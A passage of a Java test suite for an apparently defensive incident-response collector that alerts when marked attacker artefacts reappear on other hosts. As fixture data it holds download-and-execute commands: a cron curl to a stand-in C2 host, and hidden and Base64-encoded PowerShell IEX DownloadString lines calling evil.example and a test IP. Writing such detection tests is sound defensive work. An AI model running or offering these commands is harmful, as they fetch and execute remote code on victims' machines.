package bzh.vigie.collector.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.collector.conclusion.Facts;
import bzh.vigie.collector.detect.finding.Cards;
import bzh.vigie.collector.detect.returns.ArtefactPresence;
import bzh.vigie.collector.detect.returns.ArtefactPresence.Absent;
import bzh.vigie.collector.detect.returns.ArtefactPresence.By;
import bzh.vigie.collector.detect.returns.ArtefactPresence.NotConfirmed;
import bzh.vigie.collector.detect.returns.ArtefactPresence.Present;
import bzh.vigie.collector.detect.returns.ArtefactPresence.Why;
import bzh.vigie.collector.detect.returns.Artefacts;
import bzh.vigie.collector.detect.returns.Artefacts.OnHost;
import bzh.vigie.collector.detect.returns.Certainty;
import bzh.vigie.collector.detect.returns.Sweep;
import bzh.vigie.collector.gateway.Notices;
import bzh.vigie.collector.host.HostDecision;
import bzh.vigie.collector.incident.DueSweeps;
import bzh.vigie.collector.incident.Evictions;
import bzh.vigie.collector.store.AgentId;
import bzh.vigie.collector.store.Alerts.Alert;
import bzh.vigie.collector.store.Alerts.Severity;
import bzh.vigie.collector.store.Author;
import bzh.vigie.collector.store.Commune;
import bzh.vigie.collector.store.Hosts;
import bzh.vigie.collector.store.IncidentId;
import bzh.vigie.collector.store.Incidents.Interval;
import bzh.vigie.collector.store.Scope;
import bzh.vigie.collector.store.Specimens;
import bzh.vigie.collector.store.Tombstones;
import bzh.vigie.collector.store.Tombstones.Nature;
import bzh.vigie.collector.store.Tombstones.Recurrence;
import bzh.vigie.collector.store.Tombstones.Tombstone;
import bzh.vigie.event.Account;
import bzh.vigie.event.Endpoint;
import bzh.vigie.event.Event;
import bzh.vigie.event.Event.Change;
import bzh.vigie.event.InventoryDigest;
import bzh.vigie.event.Item;
import bzh.vigie.event.ItemTimes;
import bzh.vigie.event.LocationStatus;
import bzh.vigie.event.Observed;
import bzh.vigie.event.ProcessKey;
import bzh.vigie.event.ReasonCode;
import bzh.vigie.event.Sha256;
import bzh.vigie.event.WatchState;
import bzh.vigie.event.WatchlistEntry;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalLong;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What was marked on one host, seen again on others, through the live pipeline and a real store. */
final class ReturnsTest {
    private static final Scope ALL = new Scope.All();
    private static final Commune BREST = new Commune("29019");
    private static final Commune ELSEWHERE = new Commune("56007");
    private static final String KEY = "SHA256:7I8drb3QzWh/xbRpZ3gnrFSPxPd5aMEVorYat/n+vWo";

    @TempDir
    Path folder;

    private AgentId first = Specimens.agent(1);
    private AgentId second = Specimens.agent(2);
    private AgentId outside = Specimens.agent(3);
    private IncidentId incident = IncidentId.of(2026, 1);

    private interface Work {
        void on(Line line) throws Exception;
    }

    private void with(Work work) throws Exception {
        try (Line line = new Line(folder)) {
            first = line.enrol(1, BREST);
            second = line.enrol(2, Line.QUIMPER);
            outside = line.enrol(3, ELSEWHERE);
            incident = line.store
                    .write(s -> s.incidents().open("x", Set.of(BREST, Line.QUIMPER), 90, Specimens.ANALYST))
                    .id();
            evicted(line, line.now.minus(Duration.ofHours(2)), line.now.minus(Duration.ofHours(1)));
            work.on(line);
        }
    }

    @BeforeEach
    void nothing() {
        incident = IncidentId.of(2026, 1);
    }

    /** What an item has of its file, and of what it runs. */
    private record File(String hash, String signer, Item.Signature signature, String imphash, String original) {
        static final File NONE = new File("", "", Item.Signature.NOT_CHECKED, "", "");

        static File unsigned(String content) {
            return new File(content, "", Item.Signature.UNSIGNED, "", "");
        }
    }

    private static Item windows(String location, String source, String name, String value, String target, File file) {
        return new Item(
                location,
                List.of("T1543.003"),
                "windows",
                Optional.empty(),
                name,
                value,
                source,
                target,
                file.hash().isEmpty() ? Optional.empty() : Optional.of(sha(file.hash())),
                file.signer(),
                file.signature(),
                "",
                Item.Shipped.UNKNOWN,
                true,
                ItemTimes.NONE,
                List.of(),
                "",
                "",
                file.imphash(),
                "",
                file.original(),
                "",
                "",
                Set.of());
    }

    private static Item service(String name, String command, String target, File file) {
        return windows(
                "windows.service",
                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\" + name,
                "ImagePath",
                command + " (auto, LocalSystem)",
                target,
                file);
    }

    private static Sha256 sha(String content) {
        return Sha256.over(content.getBytes(StandardCharsets.UTF_8));
    }

    private static final Item BACKDOOR = service(
            "WinUpd", "C:\\ProgramData\\upd\\wu.exe -k 7", "C:\\ProgramData\\upd\\wu.exe", File.unsigned("backdoor"));

    private Tombstone mark(Line line, AgentId host, Item item) {
        return line.store
                .write(s -> s.tombstones()
                        .add(
                                ALL,
                                incident,
                                s.hosts().find(host).orElseThrow().commune(),
                                Optional.of(host),
                                item.key(),
                                Sweep.fields(item),
                                Optional.empty(),
                                Specimens.ANALYST))
                .orElseThrow();
    }

    /** The item is on the first host and marked there. */
    private Tombstone marked(Line line, Item item) throws Exception {
        line.send(first, line.seen(Change.PRESENT, item));
        return mark(line, first, item);
    }

    private static List<Alert> returns(Line line) {
        return line.alerts().stream()
                .filter(alert -> Tombstones.RULES.contains(alert.rule()))
                .toList();
    }

    private static List<String> told(Line line) {
        List<String> told = new ArrayList<>();
        for (Alert alert : returns(line)) {
            told.add(alert.rule().substring(6) + " " + alert.hostname() + " "
                    + alert.evidence().getOrDefault("matched", "").replace('\n', ' '));
        }
        return told;
    }

    private static Event started(Line line, String image, String command, Optional<Sha256> hash) {
        return new Event.ProcessStarted(
                line.at(0),
                "windows.trace",
                new ProcessKey("boot-1", 42, 1),
                Observed.missed(Observed.Why.NOT_OFFERED),
                Observed.missed(Observed.Why.NOT_OFFERED),
                Observed.missed(Observed.Why.NOT_OFFERED),
                Observed.known(image),
                Observed.known(command),
                hash.map(Observed::known).orElseGet(() -> Observed.missed(Observed.Why.NOT_OFFERED)),
                Observed.missed(Observed.Why.NOT_OFFERED),
                Observed.missed(Observed.Why.NOT_OFFERED),
                false);
    }

    @Test
    void theSameItemOnAnotherHostOfTheIncidentIsAReturnAndElsewhereIsNot() throws Exception {
        with(line -> {
            marked(line, BACKDOOR);
            line.send(outside, line.seen(Change.ADDED, BACKDOOR));
            assertEquals(List.of(), told(line));
            line.send(second, line.seen(Change.ADDED, BACKDOOR));
            assertEquals(1, returns(line).size());
            Alert alert = returns(line).getFirst();
            assertEquals("vigie-return", alert.rule());
            assertEquals(Severity.CRITICAL, alert.severity());
            assertEquals("2026-001-T1", alert.evidence().get("tombstone"));
            assertEquals("after", alert.evidence().get("eviction"));
            assertTrue(alert.evidence().getOrDefault("matched", "").startsWith("item\nfile"), told(line)::toString);
            AlertText french = AlertTexts.shipped().of(alert, Locale.FRENCH);
            assertTrue(french.explanation().contains("le même élément, le même fichier"), french.explanation());
            assertTrue(french.title().contains("2026-001-T1"), french.title());
            AlertText english = AlertTexts.shipped().of(alert, Locale.ENGLISH);
            assertTrue(english.explanation().contains("the same file (SHA-256)"), english.explanation());
        });
    }

    @Test
    void whatIsMarkedAndStaysIsNoReturnAndIsOneWhenItComesBack() throws Exception {
        with(line -> {
            Instant end = line.now.plus(Duration.ofHours(1));
            evicted(line, end);
            marked(line, BACKDOOR);
            line.send(first, line.seen(Change.PRESENT, BACKDOOR));
            Item off = service("WinUpd", "C:\\ProgramData\\upd\\wu.exe -k 8", BACKDOOR.target(), File.unsigned("new"));
            line.send(first, line.seen(Change.CHANGED, off));
            line.send(first, line.seen(Change.NEWLY_VISIBLE, BACKDOOR), line.seen(Change.CHANGED, off));
            assertEquals(List.of(), told(line));
            line.send(first, line.seen(Change.REMOVED, off));
            assertEquals(List.of(), told(line));
            line.now = end;
            line.send(first, line.seen(Change.ADDED, BACKDOOR));
            assertEquals(1, returns(line).size());
        });
    }

    @Test
    void theSameFileUnderAnyNameIsAReturnInItemsAndInPrograms() throws Exception {
        with(line -> {
            marked(line, BACKDOOR);
            Item other = windows(
                    "windows.run-key.machine",
                    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                    "Sound",
                    "D:\\x\\y.exe",
                    "D:\\x\\y.exe",
                    File.unsigned("backdoor"));
            line.send(second, line.seen(Change.ADDED, other));
            line.send(second, started(line, "C:\\Users\\a\\z.exe", "z.exe", Optional.of(sha("backdoor"))));
            assertEquals(List.of("return pc-2 file", "return pc-2 file"), told(line));
        });
    }

    @Test
    void theSameKeyForAnotherAccountAndALogonWithItAreReturns() throws Exception {
        with(line -> {
            Item key = authorized("root", "/root/.ssh/authorized_keys", KEY + " kali");
            marked(line, key);
            line.send(second, line.seen(Change.ADDED, authorized("www", "/srv/www/.ssh/authorized_keys2", KEY)));
            line.send(
                    second,
                    new Event.Logon(
                            line.at(0),
                            "linux.auth-log",
                            Event.LogonAction.LOGON,
                            Event.LogonType.SSH,
                            new Account("1001", "claire"),
                            Optional.empty(),
                            "192.0.2.7",
                            "",
                            "publickey",
                            KEY,
                            Observed.missed(Observed.Why.NOT_OFFERED),
                            ""));
            assertEquals(List.of("return pc-2 ssh-key", "return pc-2 ssh-key"), told(line));
        });
    }

    private static Event reached(Line line, String address, Event.Direction direction) {
        return new Event.Flow(
                line.at(0),
                "linux.flow",
                Observed.missed(Observed.Why.NOT_OFFERED),
                Observed.known("/usr/bin/curl"),
                Event.Transport.TCP,
                new Endpoint(InetAddress.ofLiteral("192.168.3.4"), 50_000),
                new Endpoint(InetAddress.ofLiteral(address), 443),
                direction,
                OptionalLong.empty(),
                OptionalLong.empty(),
                1,
                0);
    }

    @Test
    void theAddressOrNameOfAMarkIsSuspectedWhereverAHostReachesItOrIsReachedByALogon() throws Exception {
        with(line -> {
            marked(
                    line,
                    Line.cron(
                            "x",
                            "* * * * * root curl http://203.0.113.66/x http://c2.mallory.example/y",
                            Item.Shipped.UNOWNED));
            line.send(second, reached(line, "203.0.113.67", Event.Direction.OUTBOUND));
            line.send(second, reached(line, "203.0.113.66", Event.Direction.INBOUND));
            line.send(second, line.logon(Event.LogonAction.FAILED, "203.0.113.66"));
            line.send(outside, reached(line, "203.0.113.66", Event.Direction.OUTBOUND));
            assertEquals(List.of(), told(line), "anybody is visited");
            line.send(second, reached(line, "203.0.113.66", Event.Direction.OUTBOUND));
            line.send(second, reached(line, "203.0.113.66", Event.Direction.OUTBOUND));
            assertEquals(List.of("suspected-return pc-2 address"), told(line), "one line for one address");
            line.send(
                    second,
                    new Event.DnsAnswer(
                            line.at(0),
                            "linux.dns",
                            Observed.missed(Observed.Why.NOT_OFFERED),
                            Observed.missed(Observed.Why.NOT_OFFERED),
                            "q1.c2.mallory.example",
                            "A",
                            List.of("198.51.100.4")));
            line.send(second, line.logon(Event.LogonAction.LOGON, "203.0.113.66"));
            assertEquals(
                    List.of(
                            "suspected-return pc-2 address",
                            "suspected-return pc-2 address",
                            "suspected-return pc-2 address"),
                    told(line));
            assertEquals("c2.mallory.example", returns(line).get(1).evidence().get("known_parts"));
        });
    }

    private static Item authorized(String account, String source, String comment) {
        return Line.item(
                "linux.ssh.authorized-keys",
                source,
                comment.split(" ", -1)[0],
                "ssh-ed25519 256 " + comment,
                Item.Shipped.UNKNOWN,
                Optional.of(new Account("0", account)));
    }

    @Test
    void theSameRelayOrTenantUnderAnotherProductIsAReturn() throws Exception {
        with(line -> {
            marked(
                    line,
                    windows(
                            "windows.remote.service",
                            "HKLM\\SYSTEM\\CurrentControlSet\\Services\\ScreenConnect Client (0123456789abcdef)",
                            "screenconnect relay.mallory.example",
                            "e=Access\ny=Guest\nh=relay.mallory.example\np=443\nk digest=f9f217bbe4f8",
                            "C:\\Tools\\backup.exe",
                            File.NONE));
            line.send(
                    second,
                    line.seen(
                            Change.ADDED,
                            windows(
                                    "windows.remote.tool-user",
                                    "C:\\Users\\a\\AppData\\Roaming\\RustDesk\\config\\RustDesk2.toml",
                                    "rustdesk relay.mallory.example:21116",
                                    "rendezvous_server=relay.mallory.example:21116",
                                    "",
                                    File.NONE)));
            assertEquals(List.of("return pc-2 remote-access address sister-host"), told(line));
            // The provider's own instance of the same product.
            line.send(
                    second,
                    line.seen(
                            Change.ADDED,
                            windows(
                                    "windows.remote.service",
                                    "HKLM\\SYSTEM\\CurrentControlSet\\Services\\ScreenConnect Client (fedcba9876543210)",
                                    "screenconnect aide.exemple.fr",
                                    "e=Access\ny=Guest\nh=aide.exemple.fr\np=443\nk digest=0011223344aa",
                                    "C:\\Program Files (x86)\\ScreenConnect Client (fedcba9876543210)\\ScreenConnect.ClientService.exe",
                                    File.NONE)));
            assertEquals(1, returns(line).size());
        });
    }

    @Test
    void theSameCommandWithOtherPathsAddressesAndEncodingIsSuspected() throws Exception {
        with(line -> {
            String plain =
                    "powershell.exe -NoP -W Hidden -C \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\"";
            String shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
            marked(
                    line,
                    windows(
                            "windows.task.definition",
                            "C:\\Windows\\System32\\Tasks\\Maj",
                            "\\Maj",
                            plain + "; on logon; as S-1-5-18; highest rights",
                            shell,
                            new File("powershell", "Microsoft Windows", Item.Signature.VALID, "", "PowerShell.EXE")));
            String script = "iex (new-object net.webclient).downloadstring('https://evil.example/b')";
            String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
            line.send(
                    second,
                    started(
                            line,
                            shell,
                            "powershell -noprofile -windowstyle hidden -enc " + encoded,
                            Optional.empty()));
            assertEquals(List.of("suspected-return pc-2 command"), told(line));
            assertEquals(Severity.HIGH, returns(line).getFirst().severity());
            // The shell itself, and another use of it, say nothing.
            line.send(
                    second,
                    started(
                            line,
                            shell,
                            "powershell -NoProfile -File C:\\adm\\inventaire.ps1",
                            Optional.of(sha("powershell"))));
            assertEquals(1, returns(line).size());
        });
    }

    @Test
    void aSignerAloneNeverMatches() throws Exception {
        with(line -> {
            File signed = new File("evil", "Honest Software Ltd", Item.Signature.VALID, "aa".repeat(16), "tool.exe");
            marked(line, service("A1", "C:\\A\\tool.exe --quiet --relay", "C:\\A\\tool.exe", signed));
            File other = new File("fine", "Honest Software Ltd", Item.Signature.VALID, "aa".repeat(16), "tool.exe");
            line.send(second, line.seen(Change.ADDED, service("Zz", "C:\\B\\tool.exe", "C:\\B\\tool.exe", other)));
            assertEquals(List.of(), told(line));
        });
    }

    @Test
    void theSameImportsOrOriginalNameUnderAnotherNameAreSuspected() throws Exception {
        with(line -> {
            File file = new File("one", "", Item.Signature.UNSIGNED, "ab".repeat(16), "loader.exe");
            marked(line, service("A1", "C:\\A\\a.exe", "C:\\A\\a.exe", file));
            File other = new File("two", "", Item.Signature.UNSIGNED, "ab".repeat(16), "loader.exe");
            line.send(second, line.seen(Change.ADDED, service("Q7", "E:\\q.exe --go", "E:\\q.exe", other)));
            assertEquals(List.of("suspected-return pc-2 imports original-name"), told(line));
            assertEquals("80", returns(line).getFirst().evidence().get("score"));
            assertEquals(Severity.HIGH, returns(line).getFirst().severity());
            File less = new File("three", "", Item.Signature.UNSIGNED, "cd".repeat(16), "loader.exe");
            line.send(second, line.seen(Change.ADDED, service("R8", "F:\\r.exe", "F:\\r.exe", less)));
            Alert possible = returns(line).getLast();
            assertEquals("possible", possible.evidence().get("certainty"));
            assertEquals(Severity.MEDIUM, possible.severity());
        });
    }

    @Test
    void anAccountIsKnownAgainByItsNameOrItsSid() throws Exception {
        with(line -> {
            Item account = windows(
                    "windows.account.local",
                    "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000003EB",
                    "svc_maint",
                    "RID 1003; administrator",
                    "",
                    File.NONE);
            marked(line, account);
            line.send(
                    second,
                    line.seen(
                            Change.ADDED,
                            windows(
                                    "windows.account.local",
                                    "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000003F2",
                                    "SVC_maint",
                                    "RID 1010",
                                    "",
                                    File.NONE)));
            line.send(
                    first,
                    line.seen(
                            Change.ADDED,
                            windows(
                                    "windows.account.local",
                                    "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000003EB",
                                    "helpdesk",
                                    "RID 1003; administrator",
                                    "",
                                    File.NONE)));
            assertEquals(
                    List.of("suspected-return pc-2 account-name", "suspected-return pc-1 account-sid"), told(line));
            // Another host's account of the same RID is nobody's.
            line.send(
                    second,
                    line.seen(
                            Change.ADDED,
                            windows(
                                    "windows.account.local",
                                    "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000003EC",
                                    "accueil",
                                    "RID 1003",
                                    "",
                                    File.NONE)));
            assertEquals(2, returns(line).size());
        });
    }

    @Test
    void membersOfOneGroupAreNotOneAnother() throws Exception {
        with(line -> {
            marked(line, member("S-1-5-21-1004336348-1177238915-682003330-1001"));
            line.send(second, line.seen(Change.ADDED, member("S-1-5-21-1004336348-1177238915-682003330-1777")));
            assertEquals(List.of(), told(line));
            line.send(second, line.seen(Change.ADDED, member("S-1-5-21-1004336348-1177238915-682003330-1001")));
            assertEquals(List.of("return pc-2 item account"), told(line));
            line.send(
                    second,
                    new Event.AccountChange(
                            line.at(0),
                            "windows.log",
                            Event.AccountAction.CHANGED,
                            new Account("S-1-5-21-1004336348-1177238915-682003330-1001", "MAIRIE\\svc"),
                            Optional.empty(),
                            Optional.empty(),
                            ""));
            assertEquals(List.of("return pc-2 item account", "return pc-2 account"), told(line));
        });
    }

    private static Item member(String sid) {
        return windows(
                "windows.account.group",
                "HKLM\\SAM\\SAM\\Domains\\Builtin\\Aliases\\00000220",
                "Administrators: " + sid,
                sid,
                "",
                File.NONE);
    }

    @Test
    void theSystemsOwnProgramAtAMarkedPlaceIsNoReturn() throws Exception {
        with(line -> {
            marked(line, service("Spooler", "C:\\Temp\\evil.exe", "C:\\Temp\\evil.exe", File.unsigned("evil")));
            Item mended = service(
                    "Spooler",
                    "C:\\Windows\\System32\\spoolsv.exe",
                    "C:\\Windows\\System32\\spoolsv.exe",
                    new File("spoolsv", "Microsoft Windows", Item.Signature.VALID, "", "spoolsv.exe"));
            line.send(second, line.seen(Change.CHANGED, mended));
            line.send(first, line.seen(Change.CHANGED, mended));
            assertEquals(List.of(), told(line));
            line.send(
                    second,
                    line.seen(
                            Change.CHANGED,
                            service("Spooler", "C:\\Temp\\q.exe", "C:\\Temp\\q.exe", File.unsigned("another"))));
            assertEquals(List.of("suspected-return pc-2 place"), told(line));
        });
    }

    @Test
    void aReplayTellsNothingTwice() throws Exception {
        with(line -> {
            evicted(line, Optional.empty());
            marked(line, BACKDOOR);
            line.send(second, line.seen(Change.ADDED, BACKDOOR));
            line.send(second, started(line, BACKDOOR.target(), "wu.exe", Optional.of(sha("backdoor"))));
            Map<String, Integer> before = line.counts();
            Line.drain(line.pipeline(line.store));
            assertEquals(before, line.counts());
        });
    }

    @Test
    void aMarkThatIsTakenBackIsSilentAndOneSetMeanwhileIsHeard() throws Exception {
        with(line -> {
            Tombstone tombstone = marked(line, BACKDOOR);
            line.store.change(
                    s -> s.tombstones().line(ALL, tombstone.id(), false, Optional.empty(), Specimens.ANALYST));
            line.send(second, line.seen(Change.ADDED, BACKDOOR));
            assertEquals(List.of(), told(line));
            line.store.change(s -> s.tombstones().line(ALL, tombstone.id(), true, Optional.empty(), Specimens.ANALYST));
            line.send(second, line.seen(Change.REMOVED, BACKDOOR), line.seen(Change.ADDED, BACKDOOR));
            assertEquals(1, returns(line).size());
        });
    }

    @Test
    void whatLooksLikeTwoMarksStaysAnArtefactWhenOneIsTakenBack() throws Exception {
        with(line -> {
            marked(line, BACKDOOR);
            marked(line, service("WinUpdHelper", BACKDOOR.value(), BACKDOOR.target(), File.unsigned("backdoor")));
            line.send(second, line.seen(Change.ADDED, BACKDOOR));
            String told = returns(line).getFirst().evidence().getOrDefault(Tombstones.TOMBSTONE, "");
            line.store.change(s -> s.tombstones().line(ALL, told, false, Optional.empty(), Specimens.ANALYST));
            assertEquals(
                    1,
                    artefacts(line).stream()
                            .filter(each -> each.host().equals(Optional.of(second)))
                            .count());
        });
    }

    @Test
    void whatIsThereAfterItsDateWasNotRemovedOnlyOnceAReadingSaysSo() throws Exception {
        with(line -> {
            Item item = Line.cron("upd", "* * * * * root /opt/.x/k", Item.Shipped.UNOWNED);
            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
            mark(line, first, item);
            Instant end = line.now.plus(Duration.ofHours(2));
            evicted(line, end);
            line.now = end.plus(Duration.ofMinutes(1));
            line.pipeline.tick(line.now);
            assertEquals(List.of(), told(line));
            line.now = end.plus(Duration.ofHours(1));
            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
            for (int minutes = 0; minutes < 60; minutes += 10) {
                line.pipeline.tick(line.now.plus(Duration.ofMinutes(minutes)));
            }
            line.pipeline(line.store).tick(line.now.plus(Duration.ofHours(3)));
            assertEquals(List.of("not-removed pc-1 "), told(line));
            assertEquals(1, returns(line).getFirst().count());
            assertEquals("after", returns(line).getFirst().evidence().get("eviction"));
        });
    }

    /** The end of a full pass of that host, whose agent has nothing else to say. */
    private static Event pass(Line line, AgentId host, Instant began) {
        Sha256 digest =
                InventoryDigest.over(line.store.read(s -> s.inventories().digests(host)));
        return pass(line, began, Optional.of(digest));
    }

    private static Event pass(Line line, Instant began, Optional<Sha256> digest) {
        return new Event.Coverage(
                line.at(0),
                "linux.persistence",
                Event.Coverage.passOf("linux.persistence"),
                Optional.empty(),
                ChronoUnit.MICROS.between(Instant.EPOCH, began),
                ChronoUnit.MICROS.between(Instant.EPOCH, line.now),
                1,
                WatchState.LIVE,
                ReasonCode.NONE,
                "",
                120,
                0,
                digest);
    }

    private List<OnHost> artefacts(Line line) {
        return line.store.read(s -> Artefacts.of(s, ALL, incident, line.now));
    }

    private ArtefactPresence state(Line line) {
        return artefacts(line).getFirst().state();
    }

    private static void heard(Line line, AgentId host) {
        line.store.change(s -> s.hosts().seen(host, line.now, 0));
    }

    @Test
    void whatWasLeftInPlaceIsToldByTheFirstPassSinceThoughItsAgentSaysNothingOfIt() throws Exception {
        with(line -> {
            Item item = Line.cron("upd", "* * * * * root /opt/.x/k", Item.Shipped.UNOWNED);
            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
            Instant listed = line.now;
            mark(line, first, item);
            heard(line, first);
            assertEquals(new Present(listed, By.READING, Certainty.CERTAIN), state(line));
            Instant end = line.now.plus(Duration.ofHours(2));
            evicted(line, end);
            line.now = end.plus(Duration.ofMinutes(1));
            heard(line, first);
            assertEquals(
                    new NotConfirmed(Optional.of(listed), Why.BEFORE_EVICTION, Optional.empty()),
                    state(line),
                    "what was confirmed before its end says nothing of after");
            assertFalse(artefacts(line).getFirst().isLeft());
            // One that began before the end of the eviction does not say what is there since.
            line.send(first, pass(line, first, end.minusSeconds(10)));
            line.pipeline.tick(line.now);
            assertEquals(List.of(), rules(line));
            // One of which the agent says otherwise than the collector has it, and one that says nothing, confirm
            // nothing.
            line.now = end.plus(Duration.ofMinutes(10));
            heard(line, first);
            line.send(first, pass(line, end.plusSeconds(300), Optional.of(sha("otherwise"))));
            assertEquals(
                    new NotConfirmed(Optional.of(end.minusSeconds(10)), Why.DIFFERS, Optional.empty()), state(line));
            line.send(first, pass(line, end.plusSeconds(310), Optional.empty()));
            assertEquals(
                    new NotConfirmed(Optional.of(end.minusSeconds(10)), Why.UNTOLD, Optional.empty()), state(line));
            line.pipeline.tick(line.now);
            assertEquals(List.of(), rules(line));
            line.send(first, pass(line, first, end.plusSeconds(320)));
            line.pipeline.tick(line.now);
            assertEquals(List.of("vigie-not-removed"), rules(line));
            assertEquals(new Present(end.plusSeconds(320), By.FULL_SCAN, Certainty.CERTAIN), state(line));
            assertTrue(artefacts(line).getFirst().isLeft());
            line.now = line.now.plus(Duration.ofMinutes(5));
            line.send(first, line.seen(Change.REMOVED, item));
            assertEquals(new Absent(line.now, false), state(line));
            line.pipeline.tick(line.now);
            assertEquals(List.of("vigie-not-removed"), rules(line));
        });
    }

    /** A drill by others: dated anew half a minute later, a scan of before the end stood as if it said something of after. */
    @Test
    void whatOnlyAScanOfBeforeTheEndConfirmsIsNotConfirmedSince() throws Exception {
        with(line -> {
            Item item = Line.cron("upd", "* * * * * root /opt/.x/k", Item.Shipped.UNOWNED);
            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
            mark(line, first, item);
            for (int dated = 0; dated < 3; dated++) {
                Instant before = line.now;
                Instant end = before.plusSeconds(30);
                evicted(line, end);
                line.now = end.plusSeconds(5);
                heard(line, first);
                assertEquals(Why.BEFORE_EVICTION, ((NotConfirmed) state(line)).why());
                DueSweeps sweeps = new DueSweeps();
                assertEquals(Map.of(first, end), line.store.read(s -> sweeps.at(s, line.now)));
                line.send(first, pass(line, first, end.plusSeconds(1)));
                assertInstanceOf(Present.class, state(line));
                assertEquals(Map.of(), line.store.read(s -> sweeps.at(s, line.now)));
            }
        });
    }

    /** A remediation that is dated later than it was done: the attacker had the rest of it to put things back. */
    @Test
    void whatWasOnlySeenAbsentBeforeTheEndIsNotGone() throws Exception {
        with(line -> {
            Item item = Line.cron("upd", "* * * * * root /opt/.x/k", Item.Shipped.UNOWNED);
            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
            mark(line, first, item);
            line.now = line.now.plus(Duration.ofMinutes(30));
            line.send(first, line.seen(Change.REMOVED, item));
            Instant gone = line.now;
            Instant end = gone.plus(Duration.ofMinutes(30));
            evicted(line, end);
            assertEquals(new Absent(gone, false), state(line), "the eviction goes on");
            line.now = end.plus(Duration.ofMinutes(1));
            heard(line, first);
            NotConfirmed unknown = new NotConfirmed(Optional.of(gone), Why.ABSENT_BEFORE_EVICTION, Optional.empty());
            assertEquals(unknown, state(line));
            assertEquals(Optional.empty(), unknown.lastPresent(), "nobody saw it there since");
            assertTrue(artefacts(line).getFirst().isOpen(line.now));
            line.send(first, pass(line, first, end.minusSeconds(1)));
            assertEquals(
                    new NotConfirmed(Optional.of(end.minusSeconds(1)), unknown.why(), Optional.empty()),
                    state(line),
                    "a scan that began before the end");
            line.send(first, pass(line, end.plusSeconds(10), Optional.of(sha("otherwise"))));
            assertInstanceOf(NotConfirmed.class, state(line), "a scan that found otherwise");
            line.send(first, pass(line, first, end.plusSeconds(20)));
            assertEquals(new Absent(gone, false), state(line));
            evicted(line, line.now.plusSeconds(10));
            line.now = line.now.plusSeconds(20);
            assertInstanceOf(NotConfirmed.class, state(line), "dated anew");
            line.send(first, line.listed(item.location()));
            assertEquals(new Absent(gone, false), state(line), "its location was read since");
        });
    }

    @Test
    void aLocationThatIsNoLongerThereIsConfirmedByAFullScan() throws Exception {
        with(line -> {
            Item item = Line.cron("upd", "* * * * * root /opt/.x/k", Item.Shipped.UNOWNED);
            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
            mark(line, first, item);
            line.send(
                    first,
                    line.seen(Change.REMOVED, item),
                    Specimens.read(item.location(), Optional.empty(), LocationStatus.State.NOT_APPLICABLE, 77, false));
            Instant gone = line.now;
            Instant end = gone.plus(Duration.ofMinutes(30));
            evicted(line, end);
            line.now = end.plus(Duration.ofMinutes(1));
            assertEquals(Why.ABSENT_BEFORE_EVICTION, ((NotConfirmed) state(line)).why());
            line.send(first, pass(line, first, end.plusSeconds(20)));
            assertEquals(new Absent(gone, false), state(line));
        });
    }

    @Test
    void somethingElseAtItsLocationIsConfirmedSinceTheEndToo() throws Exception {
        with(line -> {
            Item item = Line.cron("upd", "* * * * * root /opt/.x/k", Item.Shipped.UNOWNED);
            Item other = Line.cron("upd", "0 3 * * 0 root /usr/bin/fstrim -a", Item.Shipped.UNOWNED);
            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
            mark(line, first, item);
            line.now = line.now.plus(Duration.ofMinutes(30));
            line.send(first, line.seen(Change.CHANGED, other));
            Instant replaced = line.now;
            Instant end = replaced.plus(Duration.ofMinutes(30));
            evicted(line, end);
            line.now = end.plus(Duration.ofMinutes(1));
            assertEquals(
                    new NotConfirmed(Optional.of(replaced), Why.ABSENT_BEFORE_EVICTION, Optional.empty()), state(line));
            line.send(first, line.seen(Change.PRESENT, other));
            assertEquals(new Absent(replaced, true), state(line));
        });
    }

    /** An artefact may stand on hosts on which nobody marked anything. */
    @Test
    void aHostWhereItWasKnownAgainIsAskedForAFullScanToo() throws Exception {
        with(line -> {
            Item item = Line.cron("upd", "* * * * * root /opt/.x/k", Item.Shipped.UNOWNED);
            line.send(first, line.seen(Change.PRESENT, item), line.listed(item.location()));
            mark(line, first, item);
            DueSweeps sweeps = new DueSweeps();
            Instant end = line.now.plus(Duration.ofHours(1));
            evicted(line, end);
            line.now = end.plus(Duration.ofMinutes(1));
            assertEquals(Map.of(first, end), line.store.read(s -> sweeps.at(s, line.now)));
            line.send(second, line.seen(Change.ADDED, item), line.listed(item.location()));
            assertEquals(1, returns(line).size());
            assertEquals(Map.of(first, end, second, end), line.store.read(s -> sweeps.at(s, line.now)));
            line.send(second, pass(line, second, end.plusSeconds(10)));
            assertEquals(Map.of(first, end), line.store.read(s -> sweeps.at(s, line.now)));
            Instant anew = line.now.plusSeconds(30);
            evicted(line, anew);
            line.now = anew.plusSeconds(1);
            assertEquals(Map.of(first, anew, second, anew), line.store.read(s -> sweeps.at(s, line.now)), "dated anew");
        });
    }

    @Test
    void whyNobodyKnowsWhetherItIsThereIsSaid() throws Exception {
        with(line -> {
